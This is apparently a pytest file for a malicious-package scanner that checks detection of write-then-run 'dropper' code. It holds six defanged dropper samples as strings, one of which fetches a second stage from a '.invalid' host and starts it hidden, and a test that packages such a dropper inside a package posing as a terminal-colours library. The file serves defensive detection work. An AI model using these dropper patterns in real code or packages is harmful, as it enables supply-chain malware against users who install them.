"""Write-then-run droppers (issue 10, real malware): a script carried as text, written, started.

Synthetic and defanged: the "second stage" is a harmless print, hosts are under `.invalid`.
Each positive has an honest twin of the same shape that must stay below high.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support import archives as A
from watcher.models import Severity
from watcher.parse import parse_source
from watcher.pipeline import scan_local

TEMP_FILE_PYTHONW = '''from tempfile import NamedTemporaryFile as _f
from sys import executable as _e
from os import system as _s

class helper:
    _t = _f(delete=False)
    _t.write(b"""from urllib.request import urlopen;print(urlopen('https://stage.invalid/x').read())""")
    _t.close()
    try: _s(f"start {_e.replace('.exe', 'w.exe')} {_t.name}")
    except: pass
'''
NAMED_PATH_POPEN = '''import os, subprocess
SCRIPT = """
import platform
print(platform.node())
"""
target = os.getenv("TMP", "/tmp") + "/cache.py"
with open(target, "w", encoding="utf-8") as out:
    out.write(SCRIPT)
subprocess.Popen(["python", target])
'''
CONSTANT_PATH_SHELL = '''import subprocess
with open("/tmp/.cache.py", "w") as f:
    f.write("""print('stage two')""")
subprocess.call("python3 /tmp/.cache.py >/dev/null 2>&1 &", shell=True)
'''
WRITTEN_PROGRAM = """import os, stat, subprocess
from pathlib import Path
runner = Path("/tmp/run.sh")
runner.write_text("#!/bin/sh\\necho stage two\\n")
os.chmod(runner, stat.S_IRWXU)
subprocess.run([runner])
"""
STARTFILE_SCRIPT = """import os
with open("C:/Users/Public/u.vbs", "w") as f:
    f.write('CreateObject("WScript.Shell").Run "notepad"')
os.startfile("C:/Users/Public/u.vbs")
"""
CMD_START_BATCH = """import subprocess, tempfile
t = tempfile.NamedTemporaryFile("w", suffix=".bat", delete=False)
t.write("@echo off\\necho stage two\\n")
t.close()
subprocess.Popen(f"cmd /c start /min {t.name}", shell=True)
"""

#: Honest code of the same shapes: the script is the caller's, or the command does not run it.
CODE_RUNNER = """import subprocess, sys, tempfile

def run_snippet(code: str) -> str:
    with tempfile.NamedTemporaryFile("w", suffix=".py", delete=False) as f:
        f.write(code)
    return subprocess.run([sys.executable, f.name], capture_output=True, text=True).stdout
"""
GIT_ADD = """import subprocess
with open(".gitignore", "w") as f:
    f.write("build/\\n*.pyc\\n")
subprocess.run(["git", "add", ".gitignore"], check=True)
"""
COMPILER_CHECK = """import subprocess
with open("conftest.c", "w") as f:
    f.write("int main(void) { return 0; }\\n")
subprocess.run(["cc", "conftest.c", "-o", "conftest"], check=False)
"""
#: A generated report handed to the desktop opens in a browser: opened, not run.
REPORT_OPENED = """import subprocess
def show(rows):
    with open("/tmp/report.html", "w") as f:
        f.write(f"<html><body><h1>Weekly report</h1><table>{rows}</table></body></html>")
    subprocess.run(["xdg-open", "/tmp/report.html"])
"""
PAGE_STARTED = """import os
PAGE = "<html><body>Thanks for installing; the docs are online.</body></html>"
with open("welcome.html", "w") as f:
    f.write(PAGE)
os.startfile("welcome.html")
"""
READ_ONLY_OPEN = """import subprocess, sys
with open("setup.cfg") as f:
    f.read()
subprocess.run([sys.executable, "setup.cfg"])
"""


@pytest.mark.parametrize(
    ("source", "line"),
    [
        (TEMP_FILE_PYTHONW, 9),
        (NAMED_PATH_POPEN, 9),
        (CONSTANT_PATH_SHELL, 4),
        (WRITTEN_PROGRAM, 6),
        (STARTFILE_SCRIPT, 4),
        (CMD_START_BATCH, 5),
    ],
    ids=[
        "tempfile-start-pythonw",
        "named-path-popen",
        "constant-path-shell",
        "written-program",
        "startfile-script",
        "cmd-start-batch",
    ],
)
def test_a_start_of_a_script_the_code_wrote_is_a_drop(source: str, line: int) -> None:
    facts = parse_source("pkg/mod.py", source)
    assert facts is not None
    assert [span.line for span in facts.drops] == [line]


@pytest.mark.parametrize(
    "source",
    [CODE_RUNNER, GIT_ADD, COMPILER_CHECK, READ_ONLY_OPEN, REPORT_OPENED, PAGE_STARTED],
    ids=[
        "runs-the-callers-code",
        "git-add",
        "compiler-check",
        "opened-for-reading",
        "report-opened",
        "page-started",
    ],
)
def test_honest_writes_and_starts_are_no_drop(source: str) -> None:
    facts = parse_source("pkg/mod.py", source)
    assert facts is not None
    assert facts.drops == ()


def _first_release(tmp_path: Path, module: str, summary: str) -> Path:
    files = {
        "PKG-INFO": f"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nSummary: {summary}\n",
        "pkg.egg-info/top_level.txt": "pkg\n",
        "pkg/__init__.py": "from pkg import helpers\n",
        "pkg/helpers.py": module,
    }
    artifact = tmp_path / "pkg-1.0.tar.gz"
    artifact.write_bytes(A.sdist("pkg", "1.0", files))
    return artifact


def test_an_import_time_dropper_is_high_whatever_the_package_says_it_is(tmp_path: Path) -> None:
    # A terminal library runs commands by purpose; writing and starting its own script is not.
    report = scan_local(_first_release(tmp_path, TEMP_FILE_PYTHONW, "Colors for the terminal"))
    drops = [f for f in report.findings if "dropper" in f.message]
    assert [(f.rule, f.severity, f.path, f.line) for f in drops] == [
        ("code.process-exec", Severity.HIGH, "pkg/helpers.py", 9)
    ]
    assert report.severity >= Severity.HIGH


def test_a_code_runner_tool_is_not_a_dropper(tmp_path: Path) -> None:
    report = scan_local(_first_release(tmp_path, CODE_RUNNER, "Run Python snippets for an agent"))
    assert not any("dropper" in f.message for f in report.findings)
    assert report.severity < Severity.HIGH
